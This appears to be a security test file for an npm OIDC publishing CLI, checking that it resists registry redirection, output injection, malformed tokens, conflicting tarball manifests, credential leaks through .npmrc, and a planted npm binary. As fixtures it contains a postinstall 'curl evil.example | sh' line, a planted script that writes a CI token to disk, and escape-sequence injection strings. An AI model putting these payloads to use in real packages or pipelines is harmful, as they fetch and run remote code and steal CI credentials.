// Attacks on the npm-oidc binary: each drives the CLI as a user would, against loopback servers.
import t from 'tap'
import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises'
import { existsSync } from 'node:fs'
import { delimiter, dirname, join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { runCli, project } from '../fixtures/cli.js'
import { fakeGithubJob, exchanged } from '../fixtures/job.js'
import { json, startServer } from '../fixtures/server.js'
import { makeTarball, ustar } from '../fixtures/tarball.js'

const INJECTION = 'nope\n::warning::injected\r\n# Injected heading\r\u001b[2J\u001b]0;title\u0007'

function lines (text: string): string[] {
  return text.split('\n')
}

t.test('item 7: publishConfig and a scope registry cannot pull publish away from --registry', async (t) => {
  const job = await fakeGithubJob(t)
  const decoy = await startServer(json(404, {}))
  t.teardown(() => decoy.close())
  const manifestExtra = { publishConfig: { registry: `${decoy.origin}/`, '@acme:registry': `${decoy.origin}/` } }
  const { tarball, manifest } = makeTarball('@acme/widgets', '1.0.0', manifestExtra)
  const cwd = await project(t, { 'package.json': manifest, '.npmrc': `@acme:registry=${decoy.origin}/\n` })
  await writeFile(join(cwd, 'w.tgz'), tarball)
  job.server.queue(job.idTokenReply(), exchanged())
  const published = await runCli(['publish', 'w.tgz', '--registry', job.registry, '--dry-run', '--no-provenance', '--json'], { cwd, env: job.env })
  t.equal(published.code, 0, published.stderr)
  t.match(JSON.parse(published.stdout), { registry: job.registry, auth: { method: 'oidc' } })
  job.server.queue(job.idTokenReply(), exchanged())
  const token = await runCli(['token', '--registry', job.registry], { cwd, env: job.env })
  t.equal(token.code, 0, token.stderr)
  t.match(token.stderr, `publish token for @acme/widgets at ${job.registry}`)
  t.equal(decoy.requests.length, 0, 'nothing went to the registry publishConfig or .npmrc named')
  for (const run of [published, token]) {
    const warnings = lines(run.stderr).filter((l) => l.startsWith('npm-oidc: warning:'))
    t.same(warnings, [`npm-oidc: warning: --registry ${job.registry} wins over ${decoy.origin}/ (from publishConfig or npm config)`])
  }
})

t.test('item 8: registry text cannot start a workflow command, a Markdown block or a terminal escape', async (t) => {
  const job = await fakeGithubJob(t)
  const summary = join(await project(t, {}), 'summary.md')
  const cwd = await project(t, { 'package.json': { name: 'widgets', version: '1.0.0' } })
  const env = { ...job.env, GITHUB_STEP_SUMMARY: summary }
  job.server.queue(job.idTokenReply(), json(404, { message: INJECTION }))
  const token = await runCli(['token', '--registry', job.registry], { cwd, env })
  // The doctor's requests run concurrently: answer by path.
  job.server.fallback = (res, req) => (req.path.startsWith('/token')
    ? job.idTokenReply()
    : json(404, { message: INJECTION }))(res, req)
  const doctor = await runCli(['doctor', '--registry', job.registry], { cwd, env })
  job.server.fallback = json(500, { message: 'no reply scripted' })
  const { tarball } = makeTarball('widgets', '1.0.0')
  await writeFile(join(cwd, 'w.tgz'), tarball)
  job.server.queue(job.idTokenReply(), json(404, { message: INJECTION }))
  const publish = await runCli(['publish', 'w.tgz', '--registry', job.registry, '--oidc', 'required'], { cwd, env })
  t.same([token.code, doctor.code, publish.code], [1, 1, 1])
  const written = await readFile(summary, 'utf8')
  for (const [where, text] of Object.entries({
    'token stderr': token.stderr,
    'doctor stdout': doctor.stdout,
    'doctor stderr': doctor.stderr,
    'publish stderr': publish.stderr,
    'publish stdout': publish.stdout,
    summary: written,
  })) {
    if (!/publish stdout|doctor stderr/.test(where)) t.match(text, /injected/, `${where} shows the registry's message`)
    t.notOk(lines(text).some((l) => /^::warning::injected/.test(l)), `${where}: no workflow command from the registry`)
    t.notOk(lines(text).some((l) => /^# Injected/.test(l)), `${where}: no Markdown block from the registry`)
    // eslint-disable-next-line no-control-regex -- the attack smuggles ESC and BEL; the test looks for them
    t.notMatch(text, /[\r\u001b\u0007]/, `${where}: no CR, no escape sequence`)
  }
})

t.test('item 9: TOKEN="$(npm-oidc token)" captures exactly the token; a token with control characters is refused unprinted', async (t) => {
  const job = await fakeGithubJob(t)
  const cwd = await project(t, { 'package.json': { name: 'widgets' } })
  const secret = `npm_${Math.random().toString(36).slice(2)}${'k'.repeat(30)}`
  job.server.queue(job.idTokenReply(), exchanged(secret))
  const good = await runCli(['token', '--registry', job.registry], { cwd, env: job.env })
  t.equal(good.code, 0, good.stderr)
  t.equal(good.stdout, `${secret}\n`)
  t.match(good.stderr, new RegExp(`^::add-mask::${secret}$`, 'm'))
  for (const bad of [`${secret}\n::add-mask::x`, `${secret} extra`, `${secret}\u001b[0m`]) {
    job.server.queue(job.idTokenReply(), exchanged(bad))
    const run = await runCli(['token', '--registry', job.registry], { cwd, env: job.env })
    t.equal(run.code, 1)
    t.equal(run.stdout, '')
    t.notOk(run.stderr.includes(secret), 'the token is never printed')
    t.match(run.stderr, /#err_oidc_exchange_bad_response/)
  }
})

t.test('item 10: a tarball whose manifests disagree is refused, not published with the first one', async (t) => {
  const job = await fakeGithubJob(t)
  const cwd = await project(t, {})
  const shown = { name: 'widgets', version: '1.0.0' }
  const installed = { ...shown, scripts: { postinstall: 'curl evil.example | sh' } }
  const cases = {
    'twice.tgz': [['package/package.json', shown], ['package/package.json', installed]],
    'two-tops.tgz': [['package/package.json', shown], ['other/package.json', installed]],
    'dotted.tgz': [['package/package.json', shown], ['./package/./package.json', installed]],
  } as const
  for (const [file, entries] of Object.entries(cases)) {
    const tar = ustar(entries.map(([path, m]) => [path, Buffer.from(JSON.stringify(m))] as const))
    await writeFile(join(cwd, file), gzipSync(tar))
    const run = await runCli(['publish', file, '--registry', job.registry, '--no-provenance'], { cwd, env: job.env })
    t.equal(run.code, 1, file)
    t.match(run.stderr, /2 entries that extract to package\.json/, file)
  }
  t.equal(job.server.requests.length, 0, 'nothing was exchanged or uploaded')
})

t.test('item 15: .npmrc cannot carry a CI credential to a registry or into the output', async (t) => {
  const job = await fakeGithubJob(t)
  const attacker = await startServer(json(404, { message: 'thanks' }))
  t.teardown(() => attacker.close())
  const npmrc = `registry=${attacker.origin}/\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}/\n`
  const home = await project(t, { '.npmrc': npmrc })
  const cwd = await project(t, { 'package.json': { name: 'widgets', version: '1.0.0' }, '.npmrc': npmrc })
  const bare = await project(t, { 'package.json': { name: 'widgets', version: '1.0.0' } })
  const runs = [
    await runCli(['doctor'], { cwd, env: job.env }),
    await runCli(['token'], { cwd: bare, env: { ...job.env, HOME: home } }),
    await runCli(['preflight'], { cwd: bare, env: { ...job.env, npm_config_registry: `${attacker.origin}/${job.requestToken}/` } }),
    await runCli(['token', '--registry', `${attacker.origin}/${job.requestToken}/`], { cwd: bare, env: job.env }),
  ]
  for (const run of runs) {
    t.equal(run.code, 1, run.stderr)
    t.match(run.stderr, /registry (refers to \$\{ACTIONS_ID_TOKEN_REQUEST_TOKEN\}|contains the value of a CI credential)/)
    t.notOk((run.stdout + run.stderr).includes(job.requestToken), 'the request token is never printed')
  }
  t.equal(attacker.requests.length, 0, 'the attacker saw no request')
})

t.test('item 20: publish <dir> runs the running npm, not one on PATH, without CI credentials', async (t) => {
  const job = await fakeGithubJob(t)
  const cwd = await project(t, { 'package.json': { name: 'widgets', version: '1.0.0' } })
  const planted = join(cwd, 'node_modules', '.bin')
  await mkdir(planted, { recursive: true })
  const marker = join(cwd, 'planted-npm-ran')
  await writeFile(join(planted, 'npm'), `#!/bin/sh\necho "$ACTIONS_ID_TOKEN_REQUEST_TOKEN" > "${marker}"\nexit 1\n`)
  await writeFile(join(planted, 'npm.cmd'), `@echo %ACTIONS_ID_TOKEN_REQUEST_TOKEN% > "${marker}"\r\n`)
  await chmod(join(planted, 'npm'), 0o755)
  // Stands in for the npm that runs npx: it records the environment it was given.
  const running = join(await project(t, {}), 'npm', 'bin', 'npm-cli.js')
  await mkdir(dirname(running), { recursive: true })
  const seen = join(cwd, 'seen-env.json')
  await writeFile(running, `require('fs').writeFileSync(${JSON.stringify(seen)}, JSON.stringify(process.env)); process.exit(3)\n`)
  const secrets = { GITHUB_TOKEN: 'ghs-secret-value', NPM_ID_TOKEN: 'id-secret-value', SIGSTORE_ID_TOKEN: 'sig-secret-value', CIRCLE_OIDC_TOKEN_V2: 'circle-secret-value' }
  const run = await runCli(['publish', '.', '--dry-run'], {
    cwd,
    env: { ...job.env, ...secrets, PATH: [planted, dirname(process.execPath)].join(delimiter), npm_execpath: running },
  })
  t.equal(run.code, 1)
  t.match(run.stderr, /npm pack failed with exit code 3/)
  t.notOk(existsSync(marker), 'the npm planted on PATH did not run')
  const env = JSON.parse(await readFile(seen, 'utf8')) as Record<string, string>
  for (const name of ['ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'ACTIONS_ID_TOKEN_REQUEST_URL', ...Object.keys(secrets)]) t.notOk(name in env, name)
  t.equal(env.GITHUB_ACTIONS, 'true', 'the rest of the environment is kept')
})
